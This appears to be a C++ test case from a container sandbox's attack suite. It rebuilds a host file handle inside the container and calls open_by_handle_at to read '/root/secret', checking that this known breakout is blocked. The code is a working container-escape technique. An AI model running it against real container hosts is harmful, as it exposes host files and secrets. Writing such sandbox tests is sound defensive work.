// SPDX-License-Identifier: MIT
// Opens a file of the host without a path, by its handle: open_by_handle_at(2).
// A handle is little more than an inode number; on ext4 that of / is always 2.
// Here the attacker is told it, as a tmpfs has random ones.
// It has worked if the container has what is in the file.
#include <array>

#include "tests/attacks/rig/attack.hpp"

namespace attacks::open_by_handle {

// Its bytes follow the struct.
struct Handle {
  alignas(file_handle)
      std::array<char, sizeof(file_handle) + MAX_HANDLE_SZ> memory{};

  file_handle* get() { return reinterpret_cast<file_handle*>(memory.data()); }
  char* bytes() { return memory.data() + sizeof(file_handle); }
};

// The handle's type, then its bytes.
Words prepare(Host&) {
  Handle handle;
  handle.get()->handle_bytes = MAX_HANDLE_SZ;
  int mount = 0;
  check(
      name_to_handle_at(
          AT_FDCWD,
          "/root/secret",
          handle.get(),
          &mount,
          /*flags=*/0),
      "name_to_handle_at");
  Words words{std::to_string(handle.get()->handle_type)};
  for (unsigned i = 0; i < handle.get()->handle_bytes; ++i)
    words.push_back(std::to_string(handle.bytes()[i]));
  return words;
}

void attempt(const Words& words) {
  Handle handle;
  handle.get()->handle_type = std::stoi(words[0]);
  handle.get()->handle_bytes = static_cast<unsigned>(words.size() - 1);
  for (size_t i = 1; i < words.size(); ++i)
    handle.bytes()[i - 1] = static_cast<char>(std::stoi(words[i]));
  constexpr int kFlags = O_RDONLY | O_CLOEXEC;
  const int root = check(open("/", kFlags | O_DIRECTORY), "open", "/");
  const int file = open_by_handle_at(root, handle.get(), kFlags);
  read_secret_from(try_to(file, "open_by_handle_at"));
}

const Entry kEntry({
    .name = "open-by-handle",
    .title = "open a host file by its handle, open_by_handle_at",
    .open = "a handle is looked up in the whole file system that the rootfs is "
            "on, and / does not come into it: open_by_handle_at(2) wants "
            "CAP_DAC_READ_SEARCH",
    .prepare = prepare,
    .attempt = attempt,
});

}  // namespace attacks::open_by_handle
